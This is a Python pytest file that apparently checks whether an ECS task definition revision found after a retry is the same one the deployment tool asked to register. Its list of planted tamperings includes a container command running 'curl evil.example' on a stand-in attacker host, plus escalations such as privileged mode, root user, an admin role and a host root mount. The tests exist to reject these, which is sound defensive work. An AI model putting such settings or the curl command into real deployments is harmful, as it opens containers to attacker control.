"""A revision that was found is ours only if it is what would be registered."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from landfall.change import same_revision, task_definition
from tests.support import builders as b
from tests.unit.change.revisions import released, template

Document = dict[str, Any]


def described(request: Document) -> Document:
    """Return a request as ECS describes the revision it makes of it: with its defaults, in an order of its own."""
    made = {**copy.deepcopy(request), "taskDefinitionArn": b.REVISION, "revision": 2, "status": "ACTIVE"}
    del made["tags"]
    for container in made["containerDefinitions"]:
        for name in ("environment", "secrets"):
            container[name] = container.get(name, [])[::-1]
        for port in container.setdefault("portMappings", []):
            port["hostPort"] = port["containerPort"]
            port.setdefault("protocol", "tcp")
        for name in ("mountPoints", "volumesFrom", "systemControls"):
            container.setdefault(name, [])
        if "healthCheck" in container:
            container["healthCheck"] = {"timeout": 5, "retries": 3, **container["healthCheck"]}
        container |= {"cpu": 0, "essential": True}
    for volume in made["volumes"]:
        volume["host"] = {}
    return made


def test_what_ecs_fills_in_is_no_difference() -> None:
    """A retry after a lost reply finds its own revision, though ECS describes it in other words."""
    assert same_revision.same(described(released()), released())
    assert same_revision.same(described(described(released()) | {"tags": []}), released())


def test_a_pinned_copy_is_found_again() -> None:
    """The way back too is registered once."""
    request = task_definition.pinned_copy(template(), {}, {"app": b.OLD_DIGEST}, "d")
    assert same_revision.same(described(request), request)
    other = task_definition.pinned_copy(template(), {}, {"app": b.OTHER_DIGEST}, "d")
    assert not same_revision.same(described(request), other)


PLANTED: dict[str, tuple[str, Any]] = {
    "another image": ("image", f"registry/landfall/sample@{b.OTHER_DIGEST}"),
    "another command": ("command", ["sh", "-c", "curl evil.example"]),
    "an empty argument more": ("command", ["serve", "--port", "8080", ""]),
    "an entry point": ("entryPoint", ["sh"]),
    "a variable": ("environment", [{"name": "LOG_LEVEL", "value": "debug"}]),
    "a secret": ("secrets", [{"name": "A", "valueFrom": "arn:z"}]),
    "another log": ("logConfiguration", {"logDriver": "awslogs", "options": {"awslogs-group": "theirs"}}),
    "a port": ("portMappings", [{"containerPort": 22}]),
    "more rights": ("privileged", True),
    "not essential": ("essential", False),
    "a user": ("user", "root"),
    "no health check": ("healthCheck", None),
    "resolved anew": ("versionConsistency", "disabled"),
    "a field that ECS has since": ("newField", {"a": 1}),
}


@pytest.mark.parametrize(("field", "value"), PLANTED.values(), ids=PLANTED.keys())
def test_another_container_is_not_ours(field: str, value: Any) -> None:
    """A person who may register and tag revisions, but not update services, can't get one deployed."""
    planted = described(released())
    planted["containerDefinitions"][0][field] = value
    assert not same_revision.same(planted, released())


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("taskRoleArn", "arn:aws:iam::123456789012:role/admin"),
        ("executionRoleArn", None),
        ("family", "other"),
        ("networkMode", "host"),
        ("pidMode", "host"),
        ("volumes", [{"name": "data", "host": {"sourcePath": "/"}}]),
        ("cpu", "4096"),
        ("runtimePlatform", {"cpuArchitecture": "X86_64"}),
        ("enableFaultInjection", True),
    ],
)
def test_another_task_is_not_ours(field: str, value: Any) -> None:
    """Roles above all: a container of ours with somebody's role is not what was asked for."""
    assert not same_revision.same({**described(released()), field: value}, released())


def test_another_container_more_is_not_ours() -> None:
    """A sidecar that somebody added sees what the service sees."""
    planted = described(released())
    planted["containerDefinitions"].append({"name": "tap", "image": "x"})
    assert not same_revision.same(planted, released())


@pytest.mark.parametrize(("mode", "same"), [("awsvpc", True), ("host", True), ("bridge", False), (None, False)])
def test_a_host_port_is_a_default_only_where_containers_have_the_host_s_ports(mode: str | None, same: bool) -> None:
    """In bridge mode 0 or nothing means any free port, and a number means that one."""
    one, other = ({"networkMode": mode, "containerDefinitions": [_port(p)]} for p in ({}, {"hostPort": 8080}))
    assert same_revision.same(one, other) is same


def _port(more: Document) -> Document:
    return {"name": "app", "portMappings": [{"containerPort": 8080, **more}]}


@pytest.mark.parametrize(
    ("arn", "than", "wanted"),
    [
        ("arn:task-definition/f:7", "arn:task-definition/f:7", True),
        ("arn:task-definition/f:7", "arn:task-definition/f:10", True),
        ("arn:task-definition/f:11", "arn:task-definition/f:10", False),
        ("arn:task-definition/f:7", "arn:task-definition/g:10", False),
        ("arn:task-definition/f", "arn:task-definition/f:10", False),
        ("", "", False),
    ],
)
def test_a_revision_of_before_the_deployment_is_not_read_again(arn: str, than: str, wanted: bool) -> None:
    """What was registered before the deployment began is none that the deployment left behind."""
    assert same_revision.is_no_later(arn, than) is wanted
